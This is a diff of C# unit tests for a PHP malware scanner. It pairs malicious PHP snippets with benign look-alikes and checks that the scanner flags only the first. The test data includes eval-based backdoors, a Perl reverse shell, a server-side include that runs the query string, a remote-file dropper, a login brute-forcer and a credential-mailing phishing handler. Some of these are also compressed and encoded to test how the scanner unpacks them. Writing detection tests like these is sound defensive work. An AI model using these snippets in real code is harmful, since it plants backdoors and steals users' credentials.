@@ -1,3 +1,4 @@
+using System.IO.Compression;
 using Colophon.Php.Analysis;
 
 namespace Colophon.Php.Tests.Analysis;
@@ -81,12 +82,62 @@ public sealed class AttackTests
     [InlineData("malware_spam", "<?php $bots = array('googlebot', 'bingbot'); foreach ($bots as $b) { if (strpos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { echo 'x'; exit; } } header('Location: http://example.com/x');", "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { header('Location: /sitemap.xml'); }")]
     [InlineData("malware_spam", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<script>window.location=\"http://example.com\"</script>'; }", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<p>Welcome</p>'; }")]
     [InlineData("malware_spam", "<html><body><center><font color=red size=7>HACKED BY SOME TEAM</font></center></body></html>", "<html><body><p>Was your site hacked? Read on by all means.</p></body></html>")]
+    [InlineData("malware_backdoor", "<?php $t = tmpFile(); $m = Stream_Get_Meta_Data($t); $p = $m['uri']; fprintf($t, '%s', $r); include($p);", "<?php $t = tmpfile(); $m = stream_get_meta_data($t); $p = $m['mode']; echo $p; include 'a.php';")]
+    [InlineData("malware_backdoor", "<?php $a = @unserialize(own(base64_decode($x))); if ($a['t'] == 'e') { eval($a['d']); }", "<?php $a = @unserialize($x); if ($a['t'] == 'e') { echo $a['d']; }")]
+    [InlineData("malware_uploader", "<?php $f[3]($_FILES['u']['tmp_name'], $to);", "<?php $f[3]($_FILES['u']['size'], $to);")]
+    [InlineData("malware_backdoor", "<?php foreach (scandir('.') as $n) { $n = explode('.', $n)[0]; rename($n . '.php.suspected', $n . '.php'); }", "<?php rename($n . '.php', $n . '.php.suspected');")]
+    [InlineData("malware_webshell", "<?php foreach ($words as $w) { $c = curl_init($u); curl_setopt($c, CURLOPT_USERPWD, \"admin:$w\"); curl_exec($c); }", "<?php foreach ($pages as $p) { $c = curl_init($p); curl_setopt($c, CURLOPT_USERPWD, \"$user:$key\"); curl_exec($c); }")]
+    [InlineData("malware_webshell", "<?php $h = $_GET['ip']; while (1) { if (time() > $end) { break; } $s = fsockopen($h, 80); fwrite($s, 'x'); }", "<?php while (1) { $s = fsockopen('queue.example.com', 80); if (!$s) { break; } sleep(5); }")]
+    [InlineData("malware_backdoor", "<?php exec('./httpd > /dev/null &');", "<?php exec('./vendor/bin/tool --check', $out);")]
+    [InlineData("malware_dropper", "<?php file_put_contents('a.html', base64_decode('PGhlYWQ+PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDtVUkw9aHR0cDovL2V4YW1wbGUuY29tLyI+PC9oZWFkPg=='));", "<?php file_put_contents('a.html', base64_decode('PGhlYWQ+PG1ldGEgY2hhcnNldD0idXRmLTgiPjwvaGVhZD4='));")]
+    [InlineData("malware_hidden_code", "<?php $a = \"<s\"; $b = \"cript src='http\"; $c = \"s://example.net/a.js'></s\"; echo $a . $b . $c . \"cript>\";", "<?php $a = \"<script src='https://example.net/a.js'>\"; echo $a . \"</script>\";")]
+    [InlineData("malware_hidden_code", "<?php function own($t, $k) { $i = 0; do { $t[$i] = chr((ord($t[$i]) - ord($k[$i])) % 256); $i++; } while ($i < strlen($t)); return $t; } $b = own($data, $key); $f = create_function('', $b); $f();", "<?php function own($t, $k) { return chr(ord($t) - ord($k)); } $b = own($data, $key); echo $b;")]
+    [InlineData("malware_spam", "<?php $l = file_get_contents('http://www.google.com/safebrowsing/diagnostic?site=' . $_SERVER['HTTP_HOST']); if (strpos($l, 'listed')) { exit; }", "<?php $l = file_get_contents('http://www.google.com/search?q=' . $_SERVER['HTTP_HOST']);")]
+    [InlineData("malware_spam", "<?php $l = gethostbyname($_SERVER['HTTP_HOST'] . '.dbl.spamhaus.org'); if ($l == '127.0.1.2') { exit; }", "<?php $l = gethostbyname($address . '.zen.spamhaus.org'); if ($l == '127.0.0.2') { exit; }")]
+    [InlineData("malware_backdoor", "<?php echo \"->|\"; $u = posix_getpwuid(posix_geteuid()); echo php_uname() . $u['name']; echo \"|<-\"; die;", "<?php echo \"->|\"; echo $row; echo \"|<-\";")]
+    [InlineData("malware_webshell", "<?php $c = curl_init('http://www.bing.com/search?q=ip%3A' . $i); echo curl_exec($c);", "<?php $c = curl_init('http://www.bing.com/search?q=' . $i); $r = curl_exec($c);")]
+    [InlineData("malware_webshell", "<?php $a = explode('|', base64_decode($_POST['x'])); $s = stream_socket_client('tcp://' . $mx); fwrite($s, 'MAIL FROM: <a@example.com>'); fwrite($s, 'RCPT TO: <' . $a[0] . '>');", "<?php $s = stream_socket_client('tcp://mail.example.com:25'); fwrite($s, 'MAIL FROM: <a@example.com>'); fwrite($s, 'RCPT TO: <b@example.com>');")]
+    [InlineData("malware_dropper", "<?php $from = \"https://raw.githubusercontent.com/some/one/a.txt\"; function put($n, $f) { $t = file_get_contents($f); $h = fopen($n, 'w'); fwrite($h, $t); } put(\"b.php\", $from);", "<?php $from = \"https://raw.githubusercontent.com/some/one/a.json\"; function put($n, $f) { $t = file_get_contents($f); $h = fopen($n, 'w'); fwrite($h, $t); } put(\"b.json\", $from);")]
+    [InlineData("malware_webshell", "<?php $ip = getenv(\"REMOTE_ADDR\"); $e = $_POST[\"user\"]; $p = $_POST[\"pass\"]; $m = \"Email : $e Pass : $p $ip\"; mail($to, \"x\", $m, \"y\"); header(\"location: next.php\");", "<?php $ip = getenv(\"REMOTE_ADDR\"); $e = $_POST[\"user\"]; $p = $_POST[\"text\"]; $m = \"Email : $e Text : $p $ip\"; mail($to, \"x\", $m, \"y\"); header(\"location: next.php\");")]
     public void What_attackers_do_is_found_and_its_honest_neighbour_left_alone(string kind, string attack, string honest)
     {
         var finding = Assert.Single(Code.Analyse(("x.php", attack)).Findings, f => f.Kind == kind);
         Assert.Equal(FindingCategory.Malware, finding.Category);
         Assert.NotEmpty(finding.Trace[0].What);
         Assert.DoesNotContain(Code.Analyse(("x.php", honest)).Findings, f => f.Category == FindingCategory.Malware);
+    }
+
+    [Theory]
+    [InlineData("eval($_POST['c']);", "print_r($_POST['c']);")]
+    [InlineData("use Socket; socket(SOCKET, 1, 2, 3); exec('/bin/sh -i');", "use Socket; socket(SOCKET, 1, 2, 3); print 'hello';")]
+    [InlineData("<!--#exec cmd=\"$QUERY_STRING\" -->", "<!--#include file=\"footer.html\" -->")]
+    public void What_is_packed_in_a_text_is_looked_into(string attack, string honest)
+    {
+        foreach (var (made, turned) in new[] { (0, false), (1, false), (2, false), (0, true) })
+        {
+            Assert.Contains(Carrying(attack, made, turned), f => f.Kind == "malware_hidden_code");
+            Assert.DoesNotContain(Carrying(honest, made, turned), f => f.Category == FindingCategory.Malware);
+        }
+
+        static IEnumerable<Finding> Carrying(string text, int made, bool turned)
+        {
+            var into = new MemoryStream();
+            using (Stream packing = made switch { 0 => new DeflateStream(into, CompressionLevel.Optimal), 1 => new ZLibStream(into, CompressionLevel.Optimal), _ => new GZipStream(into, CompressionLevel.Optimal) })
+            {
+                var random = new Random(3);
+                packing.Write(System.Text.Encoding.ASCII.GetBytes(text + " " + string.Concat(Enumerable.Range(0, 200).Select(_ => (char)random.Next('a', 'z')))));
+            }
+            var packed = Convert.ToBase64String(into.ToArray());
+            if (turned) { packed = string.Concat(packed.Select(c => char.IsAsciiLetter(c) ? (char)(c < 'a' ? 'A' + ((c - 'A' + 13) % 26) : 'a' + ((c - 'a' + 13) % 26)) : c)); }
+            return Code.Analyse(("x.php", $"<?php $tool = '{packed}';")).Findings;
+        }
+    }
+
+    [Fact]
+    public void A_long_text_that_begins_as_a_back_door_is_found()
+    {
+        Assert.Contains(Code.Analyse(("x.php", $"<?php $t = '<?PHP @eval(base64_decode(\"{new string('A', 5_000)}\"));';")).Findings, f => f.Kind == "malware_dropper");
+        Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php $t = '<?PHP echo base64_decode(\"{new string('A', 5_000)}\");';")).Findings, f => f.Category == FindingCategory.Malware);
     }
 
     [Fact]
